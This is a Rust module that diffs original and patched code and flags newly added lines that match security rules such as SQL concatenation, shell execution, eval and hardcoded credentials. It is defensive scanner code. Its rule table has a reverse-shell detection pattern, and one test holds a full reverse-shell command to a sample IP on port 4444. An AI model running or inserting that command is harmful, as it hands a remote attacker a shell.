//! Diff-level checks on the lines a patch introduces.
//!
//! The patch is aligned against the original with a line-level Longest Common
//! Subsequence. Only added lines are scanned: a dangerous construct that was
//! already present is the analyzers' business, not the patch's.

use regex::Regex;
use serde_json::json;
use tracing::debug;

use crate::domain::{Finding, FindingSource, Location, Severity};

const CONTEXT_LINES: usize = 3;

/// Largest LCS table built for the changed middle of a patch. Beyond this the
/// middle is treated as fully replaced.
const MAX_LCS_CELLS: usize = 4_000_000;

/// One step of a line alignment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DiffOp {
    Equal { old: usize, new: usize },
    Delete { old: usize },
    Insert { new: usize },
}

/// A line introduced by the patch (1-indexed in the patched text).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AddedLine {
    pub line: u32,
    pub text: String,
}

/// Align two line sequences.
///
/// Common prefix and suffix are matched directly so the quadratic LCS table
/// only covers the changed middle.
pub fn diff_ops(old: &[&str], new: &[&str]) -> Vec<DiffOp> {
    let prefix = old
        .iter()
        .zip(new.iter())
        .take_while(|(a, b)| a == b)
        .count();
    let suffix = old[prefix..]
        .iter()
        .rev()
        .zip(new[prefix..].iter().rev())
        .take_while(|(a, b)| a == b)
        .count();

    let old_mid = &old[prefix..old.len() - suffix];
    let new_mid = &new[prefix..new.len() - suffix];

    let mut ops: Vec<DiffOp> = (0..prefix).map(|i| DiffOp::Equal { old: i, new: i }).collect();

    let (mut i, mut j) = (0, 0);
    for (ia, ib) in lcs_alignment(old_mid, new_mid) {
        ops.extend((i..ia).map(|k| DiffOp::Delete { old: prefix + k }));
        ops.extend((j..ib).map(|k| DiffOp::Insert { new: prefix + k }));
        ops.push(DiffOp::Equal {
            old: prefix + ia,
            new: prefix + ib,
        });
        i = ia + 1;
        j = ib + 1;
    }
    ops.extend((i..old_mid.len()).map(|k| DiffOp::Delete { old: prefix + k }));
    ops.extend((j..new_mid.len()).map(|k| DiffOp::Insert { new: prefix + k }));

    let old_tail = old.len() - suffix;
    let new_tail = new.len() - suffix;
    ops.extend((0..suffix).map(|k| DiffOp::Equal {
        old: old_tail + k,
        new: new_tail + k,
    }));
    ops
}

/// Index pairs of the longest common subsequence of two line slices.
fn lcs_alignment(a: &[&str], b: &[&str]) -> Vec<(usize, usize)> {
    let m = a.len();
    let n = b.len();
    if m == 0 || n == 0 {
        return Vec::new();
    }
    if m.saturating_mul(n) > MAX_LCS_CELLS {
        debug!(old_lines = m, new_lines = n, "changed region too large to align");
        return Vec::new();
    }

    // dp[i][j] = LCS length of a[0..i] and b[0..j]
    let mut dp = vec![vec![0usize; n + 1]; m + 1];
    for i in 1..=m {
        for j in 1..=n {
            dp[i][j] = if a[i - 1] == b[j - 1] {
                dp[i - 1][j - 1] + 1
            } else {
                dp[i][j - 1].max(dp[i - 1][j])
            };
        }
    }

    let mut alignment = Vec::new();
    let (mut i, mut j) = (m, n);
    while i > 0 && j > 0 {
        if a[i - 1] == b[j - 1] {
            alignment.push((i - 1, j - 1));
            i -= 1;
            j -= 1;
        } else if dp[i][j - 1] > dp[i - 1][j] {
            j -= 1;
        } else {
            i -= 1;
        }
    }
    alignment.reverse();
    alignment
}

/// Lines present in `patched` but not aligned with `original`.
pub fn added_lines(original: &str, patched: &str) -> Vec<AddedLine> {
    let old: Vec<&str> = original.lines().collect();
    let new: Vec<&str> = patched.lines().collect();
    diff_ops(&old, &new)
        .into_iter()
        .filter_map(|op| match op {
            DiffOp::Insert { new: idx } => Some(AddedLine {
                line: idx as u32 + 1,
                text: new[idx].to_string(),
            }),
            _ => None,
        })
        .collect()
}

/// Render a unified diff with three lines of context. Empty when identical.
pub fn unified_diff(original: &str, patched: &str) -> String {
    let old: Vec<&str> = original.lines().collect();
    let new: Vec<&str> = patched.lines().collect();
    let ops = diff_ops(&old, &new);

    let changes: Vec<usize> = ops
        .iter()
        .enumerate()
        .filter(|(_, op)| !matches!(op, DiffOp::Equal { .. }))
        .map(|(idx, _)| idx)
        .collect();
    let Some(&first) = changes.first() else {
        return String::new();
    };

    // Group changes whose context windows touch.
    let mut hunks: Vec<(usize, usize)> = Vec::new();
    let mut start = first.saturating_sub(CONTEXT_LINES);
    let mut last = first;
    for &idx in &changes[1..] {
        if idx - last > 2 * CONTEXT_LINES {
            hunks.push((start, (last + CONTEXT_LINES + 1).min(ops.len())));
            start = idx.saturating_sub(CONTEXT_LINES);
        }
        last = idx;
    }
    hunks.push((start, (last + CONTEXT_LINES + 1).min(ops.len())));

    let mut out = String::from("--- original\n+++ patched\n");
    for (s, e) in hunks {
        let before = &ops[..s];
        let old_before = before
            .iter()
            .filter(|op| !matches!(op, DiffOp::Insert { .. }))
            .count();
        let new_before = before
            .iter()
            .filter(|op| !matches!(op, DiffOp::Delete { .. }))
            .count();
        let hunk = &ops[s..e];
        let old_count = hunk
            .iter()
            .filter(|op| !matches!(op, DiffOp::Insert { .. }))
            .count();
        let new_count = hunk
            .iter()
            .filter(|op| !matches!(op, DiffOp::Delete { .. }))
            .count();

        out.push_str(&format!(
            "@@ -{} +{} @@\n",
            hunk_range(old_before, old_count),
            hunk_range(new_before, new_count)
        ));
        for op in hunk {
            match *op {
                DiffOp::Equal { old: idx, .. } => push_line(&mut out, ' ', old[idx]),
                DiffOp::Delete { old: idx } => push_line(&mut out, '-', old[idx]),
                DiffOp::Insert { new: idx } => push_line(&mut out, '+', new[idx]),
            }
        }
    }
    out
}

fn hunk_range(before: usize, count: usize) -> String {
    match count {
        0 => format!("{before},0"),
        1 => format!("{}", before + 1),
        n => format!("{},{n}", before + 1),
    }
}

fn push_line(out: &mut String, marker: char, text: &str) {
    out.push(marker);
    out.push_str(text);
    out.push('\n');
}

/// `(rule, CWE, severity, patterns that must all match, message)`
const DIFF_RULES: &[(&str, &str, Severity, &[&str], &str)] = &[
    (
        "sql-string-building",
        "CWE-89",
        Severity::High,
        &[
            r"(?i)\b(?:select\s.+\bfrom|insert\s+into|update\s+\w+\s+set|delete\s+from)\b",
            r#"["']\s*(?:\+|%\s*[\w(])|\+\s*["']|\.format\s*\(|\bf["'][^"']*\{"#,
        ],
        "SQL statement built from string concatenation or formatting",
    ),
    (
        "os-shell",
        "CWE-78",
        Severity::High,
        &[r"\bos\.(?:system|popen)\s*\("],
        "command executed through the shell",
    ),
    (
        "subprocess-shell",
        "CWE-78",
        Severity::High,
        &[r"\bsubprocess\.\w+\s*\(", r"\bshell\s*=\s*True\b"],
        "subprocess invoked with shell=True",
    ),
    (
        "html-interpolation",
        "CWE-79",
        Severity::Medium,
        &[r#"(?i)["'][^"']*<\s*[a-z][^"']*["']\s*(?:\+|%)|\bf["'][^"']*<\s*[a-z][^"']*\{"#],
        "raw HTML built from interpolated values",
    ),
    (
        "mark-safe",
        "CWE-79",
        Severity::Medium,
        &[r"\b(?:mark_safe|Markup)\s*\(|\|\s*safe\b"],
        "output escaping disabled",
    ),
    (
        "hardcoded-credential",
        "CWE-798",
        Severity::High,
        &[r#"(?i)\b\w*(?:password|passwd|secret|api_?key|token|access_key)\w*\s*=\s*["'][^"']{4,}["']"#],
        "hardcoded credential",
    ),
    (
        "path-join-user-input",
        "CWE-22",
        Severity::Medium,
        &[r"\bos\.path\.join\s*\(.*\b(?:request\.|input\s*\(|user\w*|filename)"],
        "filesystem path joined with caller-controlled input",
    ),
    (
        "open-concatenated-path",
        "CWE-22",
        Severity::Medium,
        &[r"\bopen\s*\([^)]*\+\s*\w"],
        "file opened at a concatenated path",
    ),
    (
        "dotdot-path",
        "CWE-22",
        Severity::Medium,
        &[r#"["'][^"']*\.\./"#],
        "relative parent-directory path literal",
    ),
    (
        "dynamic-eval",
        "CWE-95",
        Severity::Critical,
        &[r"\b(?:eval|exec)\s*\("],
        "dynamic code evaluation",
    ),
    (
        "compile-exec",
        "CWE-95",
        Severity::Critical,
        &[r#"\bcompile\s*\(.*["']exec["']"#],
        "dynamic code compilation",
    ),
    (
        "reverse-shell",
        "CWE-506",
        Severity::Critical,
        &[r"/dev/tcp/|\bnc\s+(?:-\w+\s+)*-e\b|\bbash\s+-i\b|\bos\.dup2\s*\(|\bpty\.spawn\s*\("],
        "embedded reverse shell or payload",
    ),
];

struct DiffRule {
    id: &'static str,
    cwe: &'static str,
    severity: Severity,
    patterns: Vec<Regex>,
    message: &'static str,
}

impl DiffRule {
    fn matches(&self, line: &str) -> bool {
        self.patterns.iter().all(|p| p.is_match(line))
    }
}

/// Scans the added lines of a patch for newly introduced weaknesses.
pub struct DiffChecker {
    rules: Vec<DiffRule>,
    max_added_lines: usize,
}

impl std::fmt::Debug for DiffChecker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("DiffChecker")
            .field("max_added_lines", &self.max_added_lines)
            .finish()
    }
}

impl DiffChecker {
    pub fn new(max_added_lines: usize) -> Result<Self, regex::Error> {
        let rules = DIFF_RULES
            .iter()
            .map(|&(id, cwe, severity, patterns, message)| {
                Ok(DiffRule {
                    id,
                    cwe,
                    severity,
                    patterns: patterns
                        .iter()
                        .map(|p| Regex::new(p))
                        .collect::<Result<_, _>>()?,
                    message,
                })
            })
            .collect::<Result<Vec<_>, regex::Error>>()?;
        Ok(Self {
            rules,
            max_added_lines,
        })
    }

    pub fn max_added_lines(&self) -> usize {
        self.max_added_lines
    }

    /// Findings for every added line that matches a rule, plus an
    /// `excessive-change` finding for oversized patches.
    pub fn check_diff(&self, original: &str, patched: &str) -> Vec<Finding> {
        let added = added_lines(original, patched);
        if added.is_empty() {
            return Vec::new();
        }

        let mut findings = Vec::new();
        for line in &added {
            let trimmed = line.text.trim();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            for rule in self.rules.iter().filter(|r| r.matches(&line.text)) {
                findings.push(
                    Finding::new(
                        FindingSource::DiffChecker,
                        rule.cwe,
                        rule.severity,
                        format!("{} on added line {}: {}", rule.message, line.line, trimmed),
                    )
                    .with_location(Location::line(line.line))
                    .with_raw(json!({ "rule": rule.id, "added_line": line.text })),
                );
            }
        }

        if added.len() > self.max_added_lines {
            findings.push(
                Finding::new(
                    FindingSource::DiffChecker,
                    "excessive-change",
                    Severity::Medium,
                    format!(
                        "patch adds {} lines, more than the {} allowed for a minimal fix",
                        added.len(),
                        self.max_added_lines
                    ),
                )
                .with_raw(json!({
                    "added_lines": added.len(),
                    "max_added_lines": self.max_added_lines,
                })),
            );
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checker() -> DiffChecker {
        DiffChecker::new(20).unwrap()
    }

    #[test]
    fn test_oversized_rewrite_is_treated_as_replacement() {
        let old: Vec<String> = (0..2500).map(|i| format!("old_{i} = {i}")).collect();
        let mut new: Vec<String> = (0..2500).map(|i| format!("new_{i} = {i}")).collect();
        new[1200] = old[1200].clone();
        let old_refs: Vec<&str> = old.iter().map(String::as_str).collect();
        let new_refs: Vec<&str> = new.iter().map(String::as_str).collect();

        assert!(lcs_alignment(&old_refs, &new_refs).is_empty());

        let ops = diff_ops(&old_refs, &new_refs);
        let inserts = ops.iter().filter(|op| matches!(op, DiffOp::Insert { .. })).count();
        let deletes = ops.iter().filter(|op| matches!(op, DiffOp::Delete { .. })).count();
        assert_eq!((inserts, deletes), (2500, 2500));

        let findings = checker().check_diff(&old.join("\n"), &new.join("\n"));
        assert!(findings.iter().any(|f| f.category == "excessive-change"));
    }

    #[test]
    fn test_large_file_with_small_change_still_aligns() {
        let original: String = (0..20_000).map(|i| format!("x{i} = {i}\n")).collect();
        let patched = original.replacen("x10000 = 10000\n", "x10000 = eval(data)\n", 1);

        let added = added_lines(&original, &patched);
        assert_eq!(added.len(), 1);
        assert_eq!(added[0].line, 10_001);
        let findings = checker().check_diff(&original, &patched);
        assert!(findings.iter().any(|f| f.category == "CWE-95"));
    }

    #[test]
    fn test_added_lines_only() {
        let original = "a\nb\nc\n";
        let patched = "a\nx\nc\ny\n";
        let added = added_lines(original, patched);
        assert_eq!(
            added,
            vec![
                AddedLine {
                    line: 2,
                    text: "x".to_string()
                },
                AddedLine {
                    line: 4,
                    text: "y".to_string()
                },
            ]
        );
    }

    #[test]
    fn test_identical_is_empty() {
        let code = "def f():\n    return eval(x)\n";
        assert!(checker().check_diff(code, code).is_empty());
        assert!(unified_diff(code, code).is_empty());
    }

    #[test]
    fn test_removal_only_is_empty() {
        let original = "a = 1\nos.system(cmd)\n";
        assert!(checker().check_diff(original, "a = 1\n").is_empty());
    }

    #[test]
    fn test_preexisting_construct_not_flagged() {
        let original = "def run(cmd):\n    return eval(cmd)\n";
        let patched = "def run(cmd):\n    cmd = cmd.strip()\n    return eval(cmd)\n";
        assert!(checker().check_diff(original, patched).is_empty());
    }

    #[test]
    fn test_sql_concatenation_flagged() {
        let original = "def q(username):\n    query = \"SELECT * FROM users WHERE username = '\" + username + \"'\"\n";
        let patched = "def q(username):\n    query = \"SELECT * FROM users WHERE username = '\" + username.strip() + \"'\"\n";
        let findings = checker().check_diff(original, patched);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].category, "CWE-89");
        assert_eq!(findings[0].severity, Severity::High);
        assert_eq!(findings[0].location.as_ref().unwrap().line, Some(2));
    }

    #[test]
    fn test_parameterized_query_clean() {
        let original = "cur.execute(\"SELECT * FROM t WHERE id = \" + uid)\n";
        let patched = "cur.execute(\"SELECT * FROM t WHERE id = ?\", (uid,))\n";
        assert!(checker().check_diff(original, patched).is_empty());
    }

    #[test]
    fn test_rule_table() {
        let cases = [
            ("    eval(payload)", "CWE-95", Severity::Critical),
            ("    subprocess.run(cmd, shell=True)", "CWE-78", Severity::High),
            ("API_KEY = \"sk-live-1234\"", "CWE-798", Severity::High),
            ("    html = \"<div>\" + name", "CWE-79", Severity::Medium),
            ("    os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')", "CWE-506", Severity::Critical),
        ];
        for (line, cwe, severity) in cases {
            let findings = checker().check_diff("", line);
            assert!(
                findings.iter().any(|f| f.category == cwe && f.severity == severity),
                "expected {cwe} for {line:?}, got {findings:?}"
            );
        }
    }

    #[test]
    fn test_excessive_change() {
        let patched: String = (0..21).map(|i| format!("x{i} = {i}\n")).collect();
        let findings = checker().check_diff("", &patched);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].category, "excessive-change");
        assert_eq!(findings[0].severity, Severity::Medium);

        let at_limit: String = (0..20).map(|i| format!("x{i} = {i}\n")).collect();
        assert!(checker().check_diff("", &at_limit).is_empty());
    }

    #[test]
    fn test_unified_diff_format() {
        let diff = unified_diff("a\nb\nc\n", "a\nB\nc\n");
        assert_eq!(diff, "--- original\n+++ patched\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n");
    }
}
